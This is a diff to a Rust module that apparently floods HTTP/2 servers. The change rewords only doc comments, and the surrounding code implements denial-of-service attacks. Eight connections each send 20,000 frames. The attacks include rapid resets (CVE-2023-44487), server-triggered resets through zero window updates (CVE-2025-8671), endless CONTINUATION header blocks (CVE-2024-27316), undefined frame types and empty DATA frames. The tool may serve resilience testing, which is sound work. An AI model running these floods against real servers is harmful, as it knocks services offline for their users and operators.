@@ -1,4 +1,5 @@
-//! HTTP/2 frames that request nothing but cost the server work, thousands per connection.
+//! Sends HTTP/2 frames that request nothing but cause work for the server. Each connection sends
+//! thousands of them.
 
 use std::time::Duration;
 
@@ -14,19 +15,20 @@ use super::frames::{
 
 const CONNECTIONS: usize = 8;
 
-/// Frames per connection, sent in `PIECES` chunks.
+/// The number of frames that each connection sends, in `PIECES` chunks.
 pub(super) const FRAMES: usize = 20_000;
 const PIECES: usize = 20;
 
-/// Interval at which each attacker opens a new connection.
+/// The interval at which each attacker opens a new connection.
 const TURN: Duration = Duration::from_millis(250);
 
-/// The error code CANCEL of RST_STREAM: the client no longer wants the response.
+/// The error code CANCEL of a RST_STREAM frame, which means that the client no longer wants the
+/// response.
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
 const MINT: &str = "/ids/snowflake";
 
-/// Sends these frames on each connection, after the HTTP/2 preface.
+/// Sends these frames on each connection, following the HTTP/2 preface.
 fn flood(aim: &Aim, frames: impl Iterator<Item = Vec<u8>>) -> JoinSet<()> {
     let frames: Vec<_> = frames.take(FRAMES).collect();
     let pieces: Vec<_> = frames
@@ -71,7 +73,7 @@ pub(crate) fn priorities(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Resets one request again and again.
+/// Resets the same request over and over.
 pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
     flood(
         aim,
@@ -80,13 +82,13 @@ pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Sends frames of an undefined type.
+/// Sends frames of a type that HTTP/2 does not define.
 pub(crate) fn unknown(aim: &Aim) -> JoinSet<()> {
     const TYPE: u8 = 0xbb;
     flood(aim, std::iter::repeat_with(|| frame(TYPE, 0, 0, &[])))
 }
 
-/// Sends empty DATA frames of a request that never ends.
+/// Sends empty DATA frames for a request that never ends.
 pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, END_HEADERS, 1, &head_of_post(MINT));
     flood(
@@ -95,7 +97,7 @@ pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Resets each request at once: CVE-2023-44487.
+/// Sends requests, and resets each one immediately (CVE-2023-44487).
 pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
     flood(
@@ -104,7 +106,8 @@ pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Sends a window update of zero for each request, which makes the server reset it: CVE-2025-8671.
+/// Sends a window update of zero for each request, which makes the server reset the request
+/// (CVE-2025-8671).
 pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
     flood(
@@ -118,7 +121,7 @@ pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Sends a header block that never ends: CVE-2024-27316.
+/// Sends a header block that never ends (CVE-2024-27316).
 pub(crate) fn continuations(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, 0, 1, &head_of_post(MINT));
     let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
